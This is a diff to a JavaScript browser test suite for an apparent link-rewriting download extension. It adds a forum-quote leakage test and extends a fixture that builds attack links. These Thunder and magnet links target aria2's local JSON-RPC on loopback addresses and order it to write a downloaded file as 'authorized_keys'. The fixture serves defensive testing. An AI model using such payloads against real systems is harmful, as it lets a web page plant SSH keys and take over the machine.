@@ -4,7 +4,7 @@
 // aria2's own JSON-RPC under the spellings of this machine that browsers and resolvers accept.
 'use strict';
 const assert = require('node:assert/strict');
-const {thunder} = require('./links');
+const {thunder, qqdl} = require('./links');
 const {htmlText, filesHost} = require('./pages');
 const {waitFor, waitUntil} = require('../../tests/support/patience');
 
@@ -32,8 +32,28 @@ function hostilePage(origin) {
 <ul>${kept.join('\n')}</ul>
 <div id="editor" contenteditable="true"><p>写帖子：<a id="edited" href="${htmlText(opened)}">x</a></p></div>
 <div id="post"><a id="editedLater" href="${htmlText(opened)}">y</a></div>
+<div id="quoted"><p>原帖：<a id="toQuote" title="第一集" href="${htmlText(opened)}">下载</a></p></div>
+<button id="quote" type="button">引用</button> <button id="quoteHref" type="button">引用链接</button>
+<form id="reply"><div id="rich" contenteditable="true"></div><textarea id="body" name="body" hidden></textarea></form>
 <div id="host"></div>
 <script>
+  // A forum's editor as many are: a rich editing area whose HTML a hidden textarea carries when
+  // the post is sent, a "quote" button copying the post into it, and one copying a link's href.
+  const rich = document.getElementById('rich');
+  document.getElementById('quote').addEventListener('click', () => {
+    rich.insertAdjacentHTML('beforeend',
+                            '<blockquote>' + document.getElementById('quoted').innerHTML + '</blockquote>');
+  });
+  document.getElementById('quoteHref').addEventListener('click', () => {
+    const link = document.createElement('a');
+    link.id = 'quotedHref';
+    link.href = document.getElementById('toQuote').href;
+    link.textContent = 'link';
+    rich.append(link);
+  });
+  document.getElementById('reply').addEventListener('formdata', () => {
+    document.getElementById('body').value = rich.innerHTML;
+  });
   const shadow = document.getElementById('host').attachShadow({mode: 'open'});
   shadow.innerHTML = '<a id="inShadow" href="${htmlText(opened)}">in a shadow root</a>';
   customElements.define('later-links', class extends HTMLElement {
@@ -123,7 +143,34 @@ async function checkHostile(page, origin) {
   planted.mark = false;
   assert.deepEqual(seen, expected.map(([id, href]) => ({id, href, title: null, error: null,
                                                         mark: false})));
+  await checkQuotes(page, origin);
   await checkDesignMode(page, origin);
+}
+
+// What a page's script copies from the post into its editor (the post's HTML, or a link's
+// href as the browser reads it) carries the page's links, and so does the HTML the editor
+// sends, with none of our marks; the post itself stays opened.
+async function checkQuotes(page, origin) {
+  await waitUntil(page, marked, 'toQuote', 'the post\'s link to be opened');
+  await page.click('#quote');
+  await page.click('#quoteHref');
+  const original = thunder(`${origin}/files/a.zip`);
+  const quotes = () => [...document.querySelectorAll('#rich a')].map(
+      (link) => [link.getAttribute('href'), link.getAttribute('title'),
+                 link.getAttributeNames().filter((name) => name.startsWith('data-zentrova'))]);
+  await waitUntil(page, (href) => {
+    const links = [...document.querySelectorAll('#rich a')];
+    return links.length === 2 && links.every((link) => link.getAttribute('href') === href);
+  }, original, 'the quoted links to be given back');
+  assert.deepEqual(await page.evaluate(quotes), [[original, '第一集', []], [original, null, []]]);
+  const sent = await page.evaluate(() => {
+    new FormData(document.getElementById('reply'));
+    return document.getElementById('body').value;
+  });
+  assert.ok(sent.includes(`href="${htmlText(original)}"`), sent);
+  assert.ok(!sent.includes(`${origin}/files/`) && !sent.includes('data-zentrova'), sent);
+  assert.equal(await page.evaluate(() => document.getElementById('toQuote').getAttribute('href')),
+               `${origin}/files/a.zip`, 'the post keeps its opened link');
 }
 
 // A page of three frames that each hold a link of `megabytes` (hugeFrame), and put it back
@@ -164,16 +211,24 @@ async function checkHuge(hugeTab, otherTab, origin) {
 
 // The post of the aria2 attack: one honest download and Thunder links whose address is aria2's
 // own JSON-RPC, on each of `hosts`, asked (by GET) to fetch a file into a folder of the page's
-// choosing.
+// choosing; and QQ links of magnets whose tracker is that address, on each of `trackers` (a
+// tracker's announce is a GET aria2 runs as an order), escaped as magnets carry a tracker, or
+// not. Each magnet has an info hash of its own, in `magnetHashes`.
 const thisMachine = ['localhost', '127.1', '[::1]', '2130706433'];
-function attackLinks(aria2Port, filesPort, outside, hosts = thisMachine) {
+function attackLinks(aria2Port, filesPort, outside, hosts = thisMachine, trackers = []) {
   const params = Buffer.from(JSON.stringify(
       [[`http://${filesHost}:${filesPort}/files/a.zip`], {dir: outside, out: 'authorized_keys'}]))
                      .toString('base64');
   const query = `method=aria2.addUri&id=1&params=${encodeURIComponent(params)}`;
+  const order = (host) => `http://${host}:${aria2Port}/jsonrpc?${query}`;
+  const magnetHashes = trackers.map((_, i) => String(i + 1).padStart(2, '0').repeat(20));
+  const magnets = trackers.map((host, i) => qqdl(
+      `magnet:?xt=urn:btih:${magnetHashes[i]}&dn=x&tr=${i % 2 ? order(host) :
+                                                            encodeURIComponent(order(host))}`));
   return {
     honest: thunder(`http://${filesHost}:${filesPort}/files/影片 一.mp4`),
-    attacks: hosts.map((host) => thunder(`http://${host}:${aria2Port}/jsonrpc?${query}`)),
+    attacks: [...hosts.map((host) => thunder(order(host))), ...magnets],
+    magnetHashes,
   };
 }
 function attackPage(links) {
